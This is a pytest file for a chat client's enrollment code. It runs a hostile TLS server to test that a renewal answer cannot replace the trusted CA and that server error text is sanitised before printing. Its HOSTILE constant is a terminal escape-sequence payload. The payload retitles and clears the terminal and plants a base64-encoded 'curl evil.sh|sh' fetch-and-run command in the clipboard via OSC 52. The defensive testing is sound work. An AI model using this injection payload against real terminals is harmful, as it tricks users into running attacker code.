"""The joiner's end against a hostile enrollment server (issue 17, findings 3 and 9).

The hostile server is real: TLS on 127.0.0.1 with the enrollment ALPN, answering each request line with
what a test gives it. For the renewal it holds a server certificate from the profile's own CA, as any
server of a cluster (or a stolen server key) does.
"""

from __future__ import annotations

import datetime as dt
import os
import socket
import ssl
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import serialization

from securechat.client import enroll, profiles
from securechat.pki import builders, certs, enrollment
from securechat.wire import tls
from tests.conftest import LOOPBACK, LineClient, issue_client

# What an unauthenticated peer may try on a terminal: retitle it, clear it, write the clipboard (OSC 52).
HOSTILE = "\x1b]0;owned\x07\x1b[2J\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07\x07"


class HostileServer:
    """Answers each line of an enrollment exchange with ``answer(line)`` (None: hang up)."""

    def __init__(self, cert: Path, key: Path, answer: Callable[[str], str | None]) -> None:
        self.ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        self.ctx.load_cert_chain(str(cert), str(key))
        self.ctx.set_alpn_protocols([enrollment.ALPN])
        self.answer = answer
        self.listener = socket.create_server((LOOPBACK, 0))
        self.port = self.listener.getsockname()[1]
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self) -> None:
        while True:
            try:
                raw, _ = self.listener.accept()
            except OSError:
                return
            try:
                with self.ctx.wrap_socket(raw, server_side=True) as sock:
                    client = LineClient(sock)
                    while (reply := self.answer(client.readline())) is not None:
                        client.send(reply)
            except (OSError, EOFError, ssl.SSLError):
                continue

    def close(self) -> None:
        # close() alone does not wake a thread blocked in accept() on Linux (each test's teardown
        # waited the join's full 5 s); shutdown() does.
        try:
            self.listener.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        self.listener.close()
        self.thread.join(5)
        assert not self.thread.is_alive(), "the hostile server's thread did not stop"


@pytest.fixture
def hostile() -> Iterator[Callable[..., HostileServer]]:
    started: list[HostileServer] = []

    def start(cert: Path, key: Path, answer: Callable[[str], str | None]) -> HostileServer:
        server = HostileServer(cert, key, answer)
        started.append(server)
        return server

    yield start
    for server in started:
        server.close()


class _PublicKeyOnly:
    def __init__(self, public: Any) -> None:
        self._public = public

    def public_key(self) -> Any:
        return self._public


def _signed_by(ca_dir: Path, csr_line: str, name: str) -> tuple[bytes, bytes]:
    """(certificate DER for the key of ``RENEW <CSR>``, CA DER), signed by the CA in ``ca_dir``."""
    csr = x509.load_der_x509_csr(enrollment.unb64(csr_line.split(" ", 1)[1]))
    now = dt.datetime.now(dt.timezone.utc)
    ca_cert, ca_key = certs._load_ca(ca_dir, now)
    cert = builders.build_client(_PublicKeyOnly(csr.public_key()), ca_cert, ca_key, name, 30, now)  # type: ignore[arg-type]
    return cert.public_bytes(serialization.Encoding.DER), ca_cert.public_bytes(serialization.Encoding.DER)


def _profile(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, real: Path, port: int) -> profiles.Profile:
    """alice's profile for 127.0.0.1:``port``: the CA in ``real``, and her certificate from it, in its
    renewal window."""
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    cert, key = issue_client(real, "alice", tmp_path / "alice")
    enrolled = enroll.Enrolled("alice", (real / "ca.pem").read_bytes(), cert.read_bytes(), key.read_bytes(), "")
    return profiles.save(LOOPBACK, port, enrolled)


def _files(profile: profiles.Profile) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in profile.dir.iterdir() if p.name != ".lock"}


def test_a_renewal_answer_never_replaces_the_profiles_ca(hostile: Callable[..., HostileServer], tmp_path: Path,
                                                         monkeypatch: pytest.MonkeyPatch) -> None:
    """Issue 17, finding 3: the client took whatever CA a renewal answer carried, for good; anyone holding any
    server key from the CA could take over its trust."""
    real, evil = tmp_path / "real", tmp_path / "evil"
    certs.mint(real)
    certs.mint(evil)
    answers: list[str] = []

    def answer(line: str) -> str:
        cert_der, ca_der = _signed_by(evil, line, "alice")
        answers.append(line.split(" ")[0])
        return f"OK {enrollment.b64(cert_der)} {enrollment.b64(ca_der)}"

    server = hostile(real / "server.pem", real / "server.key", answer)  # a server key from alice's own CA
    profile = _profile(tmp_path, monkeypatch, real, server.port)
    before = _files(profile)
    said: list[str] = []
    assert not profiles.renew_if_due(profile, say=said.append)
    assert answers == ["RENEW"]  # it did ask, and was answered
    fingerprint = tls.file_fingerprint(real / "ca.pem")
    assert said == [f"refused the renewed certificate from {LOOPBACK}: it is not signed by the CA this profile trusts "
                    f"({fingerprint}); if the server's CA really changed, join again with a new invite; nothing was "
                    "changed"]
    assert _files(profile) == before  # the profile as it was: CA, certificate, key


def test_text_from_the_server_is_sanitised_before_join_prints_it(hostile: Callable[..., HostileServer],
                                                                 tmp_path: Path) -> None:
    """Issue 17, finding 9: ``securechat join`` printed an unauthenticated peer's error line raw."""
    any_ca = tmp_path / "any"
    certs.mint(any_ca)
    server = hostile(any_ca / "server.pem", any_ca / "server.key", lambda line: f"ERR {HOSTILE}invite gone{HOSTILE}")
    done = subprocess.run([sys.executable, "-m", "securechat", "join", LOOPBACK, "7-crayon-galaxy-lunar", "--port",
                           str(server.port)], capture_output=True, text=True, timeout=30,
                          env={**os.environ, "XDG_CONFIG_HOME": str(tmp_path / "config")})
    assert done.returncode == 1
    assert done.stderr == f"securechat join: {LOOPBACK}:{server.port} refused the invite: invite gone\n"


def test_a_renewal_refusal_is_sanitised_before_connect_shows_it(hostile: Callable[..., HostileServer], tmp_path: Path,
                                                                monkeypatch: pytest.MonkeyPatch) -> None:
    real = tmp_path / "real"
    certs.mint(real)
    server = hostile(real / "server.pem", real / "server.key", lambda line: f"ERR REFUSED {HOSTILE}no{HOSTILE}")
    profile = _profile(tmp_path, monkeypatch, real, server.port)
    said: list[str] = []
    assert not profiles.renew_if_due(profile, say=said.append)
    assert said == [f"your certificate for {LOOPBACK} cannot be renewed: no"]
